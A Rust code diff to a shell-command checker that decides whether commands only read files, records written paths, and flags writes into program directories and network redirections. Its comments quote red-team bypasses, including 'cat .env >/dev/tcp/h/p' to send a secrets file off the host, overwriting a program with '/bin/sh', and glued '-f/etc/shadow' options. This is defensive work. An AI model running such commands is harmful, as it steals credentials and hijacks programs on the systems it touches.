@@ -53,6 +53,8 @@ const PATH_READERS: &[&str] = &[
     "sha512sum", "b2sum", "cksum", "sum", "grep", "egrep", "fgrep", "rg", "diff", "cmp", "strings", "od", "hexdump", "readlink", "realpath",
     "dirname", "basename", "test", "[", "du", "which", "whereis", "type", "namei", "lsattr", "getfacl", "ldd", "objdump", "readelf", "nm",
     "dpkg", "dpkg-query", "rpm", "echo", "printf", "tree", "pwd",
+    // Filters with no option naming a file they write (unlike `sort -o`, `uniq IN OUT`, `xxd IN OUT`).
+    "cut", "paste", "join", "comm", "column", "fold", "fmt", "rev", "expand", "unexpand", "base32", "base64", "jq",
 ];
 
 /// Whether `program` with `args` only reads the files it names, or writes only where
@@ -62,6 +64,12 @@ fn only_reads(program: &str, args: &[String]) -> bool {
     PATH_READERS.contains(&program)
         || matches!(program, "cp" | "mv" | "install" | "ln" | "rsync" | "tee" | "dd")
         || (program == "find" && !args.iter().any(|a| a.starts_with("-fprint") || a == "-fls" || a == "-delete"))
+        // awk reads its operands; its options other than `-F` and `-v` may name files it
+        // writes (`-o`, `-p`, `-d`) or edit them in place (gawk's `-i inplace`). What its
+        // program writes (`print > f`) is read elsewhere.
+        || (matches!(program, "awk" | "gawk" | "mawk" | "nawk") && args.iter().filter(|a| a.starts_with('-') && *a != "--").all(|a| a.starts_with("-F") || a.starts_with("-v")))
+        // sed reads its operands unless it edits them in place (`-i`, in a cluster too).
+        || (program == "sed" && !args.iter().any(|a| long(a, "--in-place") || (a.starts_with('-') && !a.starts_with("--") && a.contains('i'))))
 }
 
 /// Programs that run code from files or arguments hoop cannot read (build tools, editors,
@@ -392,16 +400,16 @@ impl Walker<'_> {
         // files (red-team round 38).
         // What a copy, `tee` or `dd` writes, in a directory of programs.
         match argv.first().map(|p| known_name(p)) {
-            Some("tee") => argv.iter().skip(1).filter(|a| !a.starts_with('-')).cloned().collect::<Vec<_>>().iter().for_each(|a| self.program_dir_write(a)),
+            Some("tee") => argv.iter().skip(1).filter(|a| !a.starts_with('-')).cloned().collect::<Vec<_>>().iter().for_each(|a| self.written(a)),
             Some("dd") => {
                 if let Some(of) = argv.iter().find_map(|a| a.strip_prefix("of=")).map(str::to_string) {
-                    self.program_dir_write(&of);
+                    self.written(&of);
                 }
             }
             // `install -d` makes every operand a directory (red-team round 64: `install -d
             // ~/bin` made a directory a login's PATH puts first).
             Some("install") if argv.iter().skip(1).any(|a| long(a, "--directory") || short_given(a, &['d'], "gmoSt")) => {
-                argv.iter().skip(1).filter(|a| !a.starts_with('-')).cloned().collect::<Vec<_>>().iter().for_each(|a| self.program_dir_write(a));
+                argv.iter().skip(1).filter(|a| !a.starts_with('-')).cloned().collect::<Vec<_>>().iter().for_each(|a| self.written(a));
             }
             _ => {}
         }
@@ -419,7 +427,7 @@ impl Walker<'_> {
             }
         }
         if let Some(dest) = creates_under(&argv) {
-            self.program_dir_write(&dest);
+            self.written(&dest);
             let d = format!("{}/<new>", normalise(&dest).trim_end_matches('/'));
             if !self.r.paths.contains(&d) {
                 self.r.paths.push(d);
@@ -716,6 +724,18 @@ impl Walker<'_> {
         }
     }
 
+    /// A path the line may write: kept in `writes`, and checked against directories of programs.
+    fn written(&mut self, path: &str) {
+        let mut p = normalise(&resolve_tilde(path));
+        if let (super::typed::Cwd::At(dir), true) = (&self.cwd, is_relative(&p)) {
+            p = normalise(&format!("{}/{p}", dir.trim_end_matches('/')));
+        }
+        if !p.is_empty() && !self.r.writes.contains(&p) {
+            self.r.writes.push(p);
+        }
+        self.program_dir_write(path);
+    }
+
     /// A write into a directory of programs changes what a program's name runs later (red-team
     /// round 42: `cp /bin/sh /usr/local/sbin/tsort`, then `tsort -c …` ran a shell): unreadable.
     fn program_dir_write(&mut self, path: &str) {
@@ -733,10 +753,11 @@ impl Walker<'_> {
 
     fn redirect(&mut self, r: &ast::IoRedirect) {
         match r {
-            ast::IoRedirect::File(_, _, target) => match target {
+            ast::IoRedirect::File(_, kind, target) => match target {
                 ast::IoFileRedirectTarget::Filename(w) => {
                     if let Some(p) = self.word(&w.value) {
-                        self.redirect_path(&p);
+                        let writes = !matches!(kind, ast::IoFileRedirectKind::Read | ast::IoFileRedirectKind::DuplicateInput);
+                        self.redirect_path(&p, writes);
                     }
                 }
                 // `>&word` with a word that is not a descriptor (digits, `-`, digits then `-`)
@@ -745,7 +766,8 @@ impl Walker<'_> {
                     if let Some(v) = self.word(&w.value)
                         && !(v == "-" || v.trim_end_matches('-').chars().all(|c| c.is_ascii_digit()) && !v.is_empty())
                     {
-                        self.redirect_path(&v);
+                        let writes = !matches!(kind, ast::IoFileRedirectKind::DuplicateInput);
+                        self.redirect_path(&v, writes);
                     }
                 }
                 ast::IoFileRedirectTarget::Fd(_) => {}
@@ -755,7 +777,7 @@ impl Walker<'_> {
             },
             ast::IoRedirect::OutputAndError(w, _) => {
                 if let Some(p) = self.word(&w.value) {
-                    self.redirect_path(&p);
+                    self.redirect_path(&p, true);
                 }
             }
             ast::IoRedirect::HereString(_, w) => {
@@ -775,16 +797,21 @@ impl Walker<'_> {
         }
     }
 
-    fn redirect_path(&mut self, p: &str) {
+    /// A redirection's file; `writes` unless it is only read (`<`).
+    fn redirect_path(&mut self, p: &str, writes: bool) {
         // bash opens a connection for these names (red-team round 42: `cat .env >/dev/tcp/h/p`
         // sent a file off the host, where masking never sees it).
         let target = normalise(p);
         if ["/dev/tcp/", "/dev/udp/"].iter().any(|d| target.starts_with(d)) {
             self.r.unreadable(format!("{p} opens a network connection"));
         }
-        self.program_dir_write(p);
+        if writes {
+            self.written(p);
+        }
         if is_relative(p) {
+            let only_reads = std::mem::replace(&mut self.only_reads, !writes);
             self.relative(p);
+            self.only_reads = only_reads;
         }
         let p = resolve_tilde(p);
         if proc_link(&p) {
@@ -816,15 +843,22 @@ impl Walker<'_> {
         if !self.only_reads
             && let Some(value) = arg.strip_prefix('-').filter(|a| !a.starts_with('-')).and_then(|a| a.get(1..)).filter(|v| !v.is_empty())
         {
-            self.program_dir_write(value);
+            self.written(value);
         }
         // `-f/etc/shadow`, `-hf/etc/gshadow`: a path glued to short options (red-team round
         // 28) is a path too, beside whatever else the word is.
-        if let Some(glued) = arg.strip_prefix('-').filter(|a| !a.starts_with('-')).and_then(|a| a.find(['/', '~', '.']).map(|i| a.get(i..).unwrap_or_default()))
+        if let Some((letters, glued)) = arg.strip_prefix('-').filter(|a| !a.starts_with('-')).and_then(|a| a.find(['/', '~', '.']).map(|i| a.split_at(i)))
             && !glued.is_empty()
             && glued != arg
         {
+            // A `.` after a run of option letters may start a dot-file the option names
+            // (`-fo.popt`), and is taken as one; after anything else (`-Hroot@x.example`) it is
+            // inside a word, which names no file to write.
+            let inside_word = glued.starts_with('.') && !letters.chars().all(|c| c.is_ascii_alphanumeric());
+            let reads = self.only_reads || inside_word;
+            let only_reads = std::mem::replace(&mut self.only_reads, reads);
             self.path(glued);
+            self.only_reads = only_reads;
         }
         // `file:///home/u/%2essh/x` (curl, wget, git): the file it names, decoded as they do.
         if let Some(rest) = arg.get(..5).filter(|p| p.eq_ignore_ascii_case("file:")).and_then(|_| arg.get(5..)) {
@@ -863,7 +897,7 @@ impl Walker<'_> {
         if !dotfile && (!candidate.contains('/') || (!candidate.starts_with('/') && candidate.contains(char::is_whitespace))) {
             // (`mktemp -p bin`: the home directory's `bin`, named bare.)
             if !self.only_reads && candidate == "bin" {
-                self.program_dir_write(candidate);
+                self.written(candidate);
             }
             return;
         }
@@ -876,7 +910,7 @@ impl Walker<'_> {
             self.r.unreadable(format!("{candidate} climbs above the directory it is read against"));
         }
         if !self.only_reads {
-            self.program_dir_write(candidate);
+            self.written(candidate);
         }
         let n = normalise(candidate);
         if !self.r.paths.contains(&n) {
